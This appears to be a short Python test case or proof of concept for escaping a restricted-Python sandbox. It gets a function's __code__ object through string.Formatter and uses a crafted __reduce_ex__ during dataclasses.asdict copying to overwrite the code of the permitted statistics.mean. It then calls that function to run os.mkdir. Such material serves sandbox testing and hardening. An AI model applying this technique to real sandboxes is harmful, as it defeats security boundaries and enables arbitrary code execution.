# Says how it wants to be copied, and so lets the copying code set the code of a permitted function.
import dataclasses
import statistics
import string


class Recipe:
    def __reduce_ex__(self, protocol):
        return (lambda: statistics.mean), (), (None, {"__code__": code})


@dataclasses.dataclass
class Box:
    inside: object


def work(data):
    return sys.modules["os"].mkdir(data)


code, _ = string.Formatter().get_field("0.__code__", (work,), {})
dataclasses.asdict(Box(Recipe()))
statistics.mean(FOLDER + "/made")
